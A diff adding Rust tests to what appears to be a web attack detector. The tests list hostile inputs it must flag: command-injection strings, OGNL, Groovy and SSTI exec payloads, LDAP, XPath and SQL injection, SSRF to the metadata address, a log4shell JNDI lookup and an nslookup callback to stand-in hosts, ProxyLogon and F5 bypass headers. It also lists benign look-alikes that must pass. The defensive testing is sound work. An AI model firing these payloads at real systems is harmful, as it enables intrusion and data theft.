@@ -327,6 +327,183 @@ fn false_positive_traps() {
     assert_clean(&browser);
 }
 
+/// Misses found by the second attack set (corpus/gen_attacks.py, "own-attacks-2"), each fixed by
+/// a grammar or normalisation change rather than by matching the corpus string.
+#[test]
+fn generalisation_misses() {
+    let cases: &[(&str, &str)] = &[
+        // A weak command word alone between shell separators.
+        ("rce", "; id"),
+        ("rce", "| id"),
+        ("rce", "$(id)"),
+        ("rce", "a && id"),
+        ("rce", "|| id #"),
+        // The argument of `sh -c` (F5 iControl `utilCmdArgs`).
+        ("rce", "-c id"),
+        // A binary named by a glob.
+        ("rce", ";/???/??t /???/p??s??"),
+        ("rce", "& dir c:\\"),
+        // Groovy `execute()` and OGNL expressions.
+        ("rce", "throw new Exception('id'.execute().text);"),
+        (
+            "rce",
+            "%{#context['com.opensymphony.xwork2.dispatcher.HttpServletResponse']}",
+        ),
+        // LDAP extensible match and nested filters.
+        ("ldapi", "(cn:dn:=admin)"),
+        ("ldapi", "sn:caseExactMatch:=Smith"),
+        ("ldapi", "admin*)((|userPassword=*)"),
+        ("xpathi", "') or true() or ('"),
+        (
+            "ssti",
+            "{{_self.env.registerUndefinedFilterCallback(\"exec\")}}",
+        ),
+        // IPv4-mapped IPv6 in hex: 169.254.169.254.
+        ("ssrf", "http://[::ffff:a9fe:a9fe]/latest/"),
+        // A value that is only a climb.
+        ("ptrav", "../"),
+        ("sqli", "admin' #"),
+        ("sqli", "1\tOR\t1=1"),
+    ];
+    for (class, payload) in cases {
+        assert_hit(&get(&format!("/search?q={}", q(payload))), class, "query.q");
+    }
+    // LDAP extensible match cut at its own `=` by form decoding.
+    assert_hit(
+        &post(
+            "application/x-www-form-urlencoded",
+            "userPassword:2.5.13.18:=123",
+        ),
+        "ldapi",
+        "body.form.userPassword:2.5.13.18:",
+    );
+    // Tab tricks in a redirect target.
+    assert_hit(
+        &get(&format!("/sso/logout?returnTo={}", q("/%09/evil.example"))),
+        "open_redirect",
+        "query.returnTo",
+    );
+    // Callback injection (ThinkPHP).
+    assert_hit(
+        &post(
+            "application/x-www-form-urlencoded",
+            "_method=__construct&filter[]=system&method=get",
+        ),
+        "rce",
+        "body.form.filter",
+    );
+    // A quoted multipart filename holding `;`.
+    let body = "--B\r\nContent-Disposition: form-data; name=\"f\"; filename=\"; nslookup x.example\"\r\n\r\nx\r\n--B--\r\n";
+    assert_hit(
+        &post("multipart/form-data; boundary=B", body),
+        "rce",
+        "body.multipart.f.filename",
+    );
+    // XML schema documents and schema locations that fetch from elsewhere.
+    assert_hit(
+        &post(
+            "application/xml",
+            "<xsd:schema xmlns:xsd=\"http://www.w3.org/2001/XMLSchema\"><xsd:import namespace=\"urn:x\" schemaLocation=\"http://198.51.100.7/x.xsd\"/></xsd:schema>",
+        ),
+        "xxe",
+        "body.xml",
+    );
+    assert_hit(
+        &post(
+            "application/xml",
+            "<x xmlns:xsi=\"http://www.w3.org/2001/XMLSchema-instance\" xsi:schemaLocation=\"http://x.example/\"/>",
+        ),
+        "xxe",
+        "body.xml",
+    );
+    // Credentials in Basic auth are a point.
+    let r = request_from_parts(
+        "GET",
+        "/admin",
+        &[
+            ("Host", "x"),
+            (
+                "Authorization",
+                "Basic JHtqbmRpOmxkYXA6Ly94LmV4YW1wbGUvYX06eA==",
+            ),
+        ],
+        b"",
+    );
+    assert_hit(&r, "log4shell", "header.authorization.basic");
+    // A scheme-less internal host with a path in a cookie (Exchange ProxyLogon style).
+    let r = request_from_parts(
+        "GET",
+        "/ecp/y.js",
+        &[
+            ("Host", "x"),
+            (
+                "Cookie",
+                "X-BEResource=localhost/owa/auth/logon.aspx?~1942062522",
+            ),
+        ],
+        b"",
+    );
+    assert_hit(&r, "ssrf", "cookie.X-BEResource");
+    // Connection naming an identity header for a proxy to strip.
+    let r = request_from_parts(
+        "POST",
+        "/mgmt/tm/util/bash",
+        &[
+            ("Host", "x"),
+            ("Connection", "keep-alive, X-F5-Auth-Token"),
+            ("X-F5-Auth-Token", "a"),
+        ],
+        b"",
+    );
+    assert_hit(&r, "protocol", "framing");
+}
+
+/// Benign shapes of the second benign set that looked like attacks before their fix.
+#[test]
+fn generalisation_false_positive_traps() {
+    let benign = [
+        "(shoes OR boots) AND size:42",
+        "Use `git log --oneline | head -5` to see the last commits, then push.",
+        "Here is the snippet:\n```bash\ncurl -s https://api.example.com/v1/items | jq .\n```\nIt prints nothing at all for me.",
+        "Find the best deals on laptops, phones & more",
+        "B&W prints only",
+        "127.0.0.1/8",
+        "localhost:3000",
+        "In Go you write `x := compute(a, b)` and the type is inferred.",
+    ];
+    for b in benign {
+        assert_clean(&get(&format!("/search?q={}", q(b))));
+        assert_clean(&post(
+            "application/json",
+            &serde_json::json!({ "body": b }).to_string(),
+        ));
+    }
+    let ws = request_from_parts(
+        "GET",
+        "/ws",
+        &[
+            ("Host", "x"),
+            ("Connection", "keep-alive, Upgrade"),
+            ("Upgrade", "websocket"),
+        ],
+        b"",
+    );
+    assert_clean(&ws);
+    let grpc = request_from_parts(
+        "GET",
+        "/healthz",
+        &[
+            ("Host", "x"),
+            ("Connection", "TE, keep-alive"),
+            ("TE", "trailers"),
+        ],
+        b"",
+    );
+    assert_clean(&grpc);
+    let sitemap = "<?xml version=\"1.0\"?><urlset xmlns=\"http://www.sitemaps.org/schemas/sitemap/0.9\" xmlns:xsi=\"http://www.w3.org/2001/XMLSchema-instance\" xsi:schemaLocation=\"http://www.sitemaps.org/schemas/sitemap/0.9 http://www.sitemaps.org/schemas/sitemap/0.9/sitemap.xsd\"><url><loc>https://x.example/a</loc></url></urlset>";
+    assert_clean(&post("application/xml", sitemap));
+}
+
 #[test]
 fn hostile_inputs() {
     let d = det();
